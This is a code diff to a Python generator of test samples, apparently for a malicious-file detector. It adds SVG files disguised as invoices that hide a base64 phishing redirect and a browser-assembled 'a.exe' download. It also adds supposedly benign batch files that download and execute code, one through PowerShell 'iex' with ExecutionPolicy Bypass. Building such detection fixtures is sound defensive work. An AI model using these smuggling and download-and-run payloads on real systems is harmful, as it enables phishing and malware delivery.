@@ -110,6 +110,11 @@ def samples() -> Iterator[Sample]:
         f"[InternetShortcut]\r\nURL=file://{HOST}/share/a.vbs\r\n".encode(),
         "files.shortcut-abroad",
     )
+    where = base64.b64encode(f"http://{HOST}/login".encode()).decode()
+    svg = f"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location.href = atob('{where}');</script></svg>"
+    yield Sample("a picture that leads elsewhere", "invoice.svg", svg.encode(), "files.page-smuggles")
+    put = f'<svg xmlns="http://www.w3.org/2000/svg"><script>var a = "{body}"; var u = URL.createObject' 'URL(new Blob([a])); x.download = "a.exe";</script></svg>'  # fmt: skip
+    yield Sample("a file put together in the browser", "invoice.svg", put.encode(), "files.page-smuggles")
     yield from _honest()
 
 
@@ -132,6 +137,12 @@ def _honest() -> Iterator[Sample]:
         "data.py",
         b"import base64\nlogo = base64.b64decode('" + base64.b64encode(bytes(range(256))) + b"')\nprint(len(logo))\n",
     )
+    yield Sample("", "chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>function show(e){ window.location.hash = "x"; }</script><circle r="1"/></svg>')  # fmt: skip
+    yield Sample("", "get.cmd", b"@echo off\npowershell -NoProfile -ExecutionPolicy Bypass -Command \"iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example.org/install.ps1'))\"\n")  # fmt: skip
+    yield Sample(
+        "", "get.bat", b"@echo off\ncurl -o %TEMP%\\tool.exe https://example.org/tool.exe\nstart %TEMP%\\tool.exe\n"
+    )
+    yield Sample("", "link.vbs", b"Dim s\nSet s = CreateObject(\"WScript.Shell\")\nSet l = s.CreateShortcut(s.SpecialFolders(\"Desktop\") & \"\\tool.lnk\")\nl.Save\n")  # fmt: skip
     yield Sample("", "page.js", b"var r = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject('Microsoft.XMLHTTP');\nfunction f(){ return /a/.exec('a'); }\nlet x = 1;\n")  # fmt: skip
 
 
